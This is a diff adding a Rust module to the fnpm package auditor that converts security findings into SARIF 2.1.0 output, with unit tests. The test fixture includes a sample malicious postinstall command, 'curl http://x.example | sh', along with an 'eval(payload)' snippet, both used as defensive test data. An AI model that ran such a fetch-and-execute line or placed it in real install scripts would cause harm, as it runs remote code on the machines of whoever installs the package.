@@ -0,0 +1,305 @@
+//! SARIF 2.1.0 export of audit findings, so code-scanning dashboards and
+//! IDE SARIF viewers can show fnpm results natively.
+
+use serde_json::{json, Value};
+use std::collections::BTreeMap;
+
+use crate::baseline::{fingerprint, normalized_file};
+use crate::package_manager::split_package_spec;
+use crate::security::{BehavioralChain, IssueSeverity, PackageAudit, SourceCodeIssue};
+
+pub const SARIF_SCHEMA: &str = "https://json.schemastore.org/sarif-2.1.0.json";
+
+/// Rule for suspicious commands in preinstall/install/postinstall
+const INSTALL_SCRIPT_RULE: &str = "install_script";
+
+/// Turn an `issue_type` ("eval_usage", "System command execution") into a
+/// stable rule ID ("eval_usage", "system_command_execution").
+pub fn rule_id(issue_type: &str) -> String {
+    let mut id = String::new();
+    for c in issue_type.trim().chars() {
+        if c.is_ascii_alphanumeric() {
+            id.push(c.to_ascii_lowercase());
+        } else if !id.is_empty() && !id.ends_with('_') {
+            id.push('_');
+        }
+    }
+    id.trim_end_matches('_').to_string()
+}
+
+fn chain_rule_id(chain: &BehavioralChain) -> String {
+    format!("attack_chain/{:?}", chain.chain_type)
+}
+
+pub fn level(severity: &IssueSeverity) -> &'static str {
+    match severity {
+        IssueSeverity::Critical => "error",
+        IssueSeverity::Warning => "warning",
+        IssueSeverity::Info => "note",
+    }
+}
+
+/// Where the file would live in the project, wherever it was scanned from
+fn artifact_uri(package: &str, version: Option<&str>, path: &str) -> String {
+    format!(
+        "node_modules/{}/{}",
+        package,
+        normalized_file(package, version, path)
+    )
+}
+
+fn location(uri: &str, line: Option<usize>, message: Option<&str>) -> Value {
+    let mut physical = json!({
+        "artifactLocation": { "uri": uri, "uriBaseId": "%SRCROOT%" }
+    });
+    if let Some(line) = line.filter(|line| *line > 0) {
+        physical["region"] = json!({ "startLine": line });
+    }
+    let mut location = json!({ "physicalLocation": physical });
+    if let Some(message) = message {
+        location["message"] = json!({ "text": message });
+    }
+    location
+}
+
+fn rule(id: &str, name: &str, description: &str, level: &str) -> Value {
+    json!({
+        "id": id,
+        "name": name,
+        "shortDescription": { "text": description },
+        "defaultConfiguration": { "level": level },
+    })
+}
+
+fn issue_result(package: &str, version: Option<&str>, issue: &SourceCodeIssue) -> Value {
+    let mut region = json!({ "startLine": issue.line_number.max(1) });
+    if let Some(snippet) = &issue.code_snippet {
+        region["snippet"] = json!({ "text": snippet });
+    }
+    let uri = artifact_uri(package, version, &issue.file_path);
+    let mut result = json!({
+        "ruleId": rule_id(&issue.issue_type),
+        "level": level(&issue.severity),
+        "message": { "text": format!("{}: {}", package, issue.description) },
+        "locations": [{
+            "physicalLocation": {
+                "artifactLocation": { "uri": uri, "uriBaseId": "%SRCROOT%" },
+                "region": region,
+            }
+        }],
+        "partialFingerprints": { "fnpm/v1": fingerprint(package, version, issue) },
+        "properties": { "package": package, "version": version },
+    });
+    // Taint findings carry their source→sink path
+    if !issue.data_flow.is_empty() {
+        let steps: Vec<Value> = issue
+            .data_flow
+            .iter()
+            .map(|step| {
+                let text = format!("{}: {}", step.description, step.code);
+                json!({ "location": location(&uri, Some(step.line_number), Some(&text)) })
+            })
+            .collect();
+        result["codeFlows"] = json!([{ "threadFlows": [{ "locations": steps }] }]);
+    }
+    result
+}
+
+/// A chain is reported on the manifest, with one code flow step per piece
+/// of evidence.
+fn chain_result(package: &str, version: Option<&str>, chain: &BehavioralChain) -> Value {
+    let manifest = format!("node_modules/{}/package.json", package);
+    let steps: Vec<Value> = chain
+        .evidence
+        .iter()
+        .map(|evidence| json!({ "location": location(&manifest, None, Some(evidence)) }))
+        .collect();
+    json!({
+        "ruleId": chain_rule_id(chain),
+        "level": level(&chain.severity),
+        "message": { "text": format!("{}: {}", package, chain.description) },
+        "locations": [location(&manifest, None, None)],
+        "codeFlows": [{
+            "message": { "text": format!("{:?} evidence", chain.chain_type) },
+            "threadFlows": [{ "locations": steps }],
+        }],
+        "properties": {
+            "package": package,
+            "version": version,
+            "riskScore": chain.risk_score,
+        },
+    })
+}
+
+/// Build a SARIF log with one run covering every finding in `audits`.
+pub fn to_sarif<'a>(audits: impl IntoIterator<Item = &'a PackageAudit>) -> Value {
+    let mut rules: BTreeMap<String, Value> = BTreeMap::new();
+    let mut results = Vec::new();
+
+    for audit in audits {
+        let package = split_package_spec(&audit.package_name).0;
+        let version = audit.version.as_deref();
+
+        for pattern in &audit.suspicious_patterns {
+            rules
+                .entry(INSTALL_SCRIPT_RULE.to_string())
+                .or_insert_with(|| {
+                    rule(
+                        INSTALL_SCRIPT_RULE,
+                        "Install script",
+                        "Suspicious command in an install lifecycle script",
+                        "warning",
+                    )
+                });
+            results.push(json!({
+                "ruleId": INSTALL_SCRIPT_RULE,
+                "level": "warning",
+                "message": { "text": format!("{}: {}", package, pattern) },
+                "locations": [location(&format!("node_modules/{}/package.json", package), None, None)],
+                "properties": { "package": package, "version": version },
+            }));
+        }
+
+        for issue in &audit.source_code_issues {
+            let id = rule_id(&issue.issue_type);
+            rules.entry(id.clone()).or_insert_with(|| {
+                rule(
+                    &id,
+                    &issue.issue_type,
+                    &issue.description,
+                    level(&issue.severity),
+                )
+            });
+            results.push(issue_result(&package, version, issue));
+        }
+
+        for chain in &audit.behavioral_chains {
+            let id = chain_rule_id(chain);
+            rules.entry(id.clone()).or_insert_with(|| {
+                rule(
+                    &id,
+                    &format!("{:?}", chain.chain_type),
+                    &chain.description,
+                    level(&chain.severity),
+                )
+            });
+            results.push(chain_result(&package, version, chain));
+        }
+    }
+
+    json!({
+        "$schema": SARIF_SCHEMA,
+        "version": "2.1.0",
+        "runs": [{
+            "tool": {
+                "driver": {
+                    "name": "fnpm",
+                    "version": env!("CARGO_PKG_VERSION"),
+                    "informationUri": "https://github.com/ideascoldigital/fnpm",
+                    "rules": rules.into_values().collect::<Vec<_>>(),
+                }
+            },
+            "results": results,
+        }]
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::security::{AttackChainType, RiskLevel};
+
+    fn audit() -> PackageAudit {
+        PackageAudit {
+            package_name: "sketchy@1.0.0".to_string(),
+            version: Some("1.0.0".to_string()),
+            has_scripts: true,
+            postinstall: Some("curl http://x.example | sh".to_string()),
+            suspicious_patterns: vec!["Downloads and pipes to shell".to_string()],
+            source_code_issues: vec![SourceCodeIssue {
+                file_path: "sketchy@1.0.0/lib/index.js".to_string(),
+                line_number: 3,
+                issue_type: "eval_usage".to_string(),
+                description: "eval() executes arbitrary code".to_string(),
+                severity: IssueSeverity::Critical,
+                code_snippet: Some("eval(payload)".to_string()),
+                data_flow: Vec::new(),
+            }],
+            risk_level: RiskLevel::Critical,
+            behavioral_chains: vec![BehavioralChain {
+                chain_type: AttackChainType::RemoteCodeExecution,
+                description: "Downloads and executes external code".to_string(),
+                evidence: vec![
+                    "Downloads files from internet".to_string(),
+                    "Makes files executable or executes code".to_string(),
+                ],
+                severity: IssueSeverity::Critical,
+                risk_score: 100,
+                entry_point: None,
+            }],
+            risk_score: 100,
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn rule_ids_are_stable_slugs() {
+        assert_eq!(rule_id("eval_usage"), "eval_usage");
+        assert_eq!(
+            rule_id("System command execution"),
+            "system_command_execution"
+        );
+        assert_eq!(rule_id("HTTP request (fetch)"), "http_request_fetch");
+    }
+
+    #[test]
+    fn exports_rules_results_and_code_flows() {
+        let audit = audit();
+        let log = to_sarif([&audit]);
+        assert_eq!(log["version"], "2.1.0");
+
+        let run = &log["runs"][0];
+        let rules: Vec<&str> = run["tool"]["driver"]["rules"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|rule| rule["id"].as_str().unwrap())
+            .collect();
+        assert_eq!(
+            rules,
+            vec![
+                "attack_chain/RemoteCodeExecution",
+                "eval_usage",
+                "install_script"
+            ]
+        );
+
+        let results = run["results"].as_array().unwrap();
+        assert_eq!(results.len(), 3);
+
+        let eval = results
+            .iter()
+            .find(|r| r["ruleId"] == "eval_usage")
+            .unwrap();
+        assert_eq!(eval["level"], "error");
+        let physical = &eval["locations"][0]["physicalLocation"];
+        assert_eq!(
+            physical["artifactLocation"]["uri"],
+            "node_modules/sketchy/lib/index.js"
+        );
+        assert_eq!(physical["region"]["startLine"], 3);
+
+        let chain = results
+            .iter()
+            .find(|r| r["ruleId"] == "attack_chain/RemoteCodeExecution")
+            .unwrap();
+        let steps = chain["codeFlows"][0]["threadFlows"][0]["locations"]
+            .as_array()
+            .unwrap();
+        assert_eq!(steps.len(), 2);
+        assert_eq!(
+            steps[0]["location"]["message"]["text"],
+            "Downloads files from internet"
+        );
+    }
+}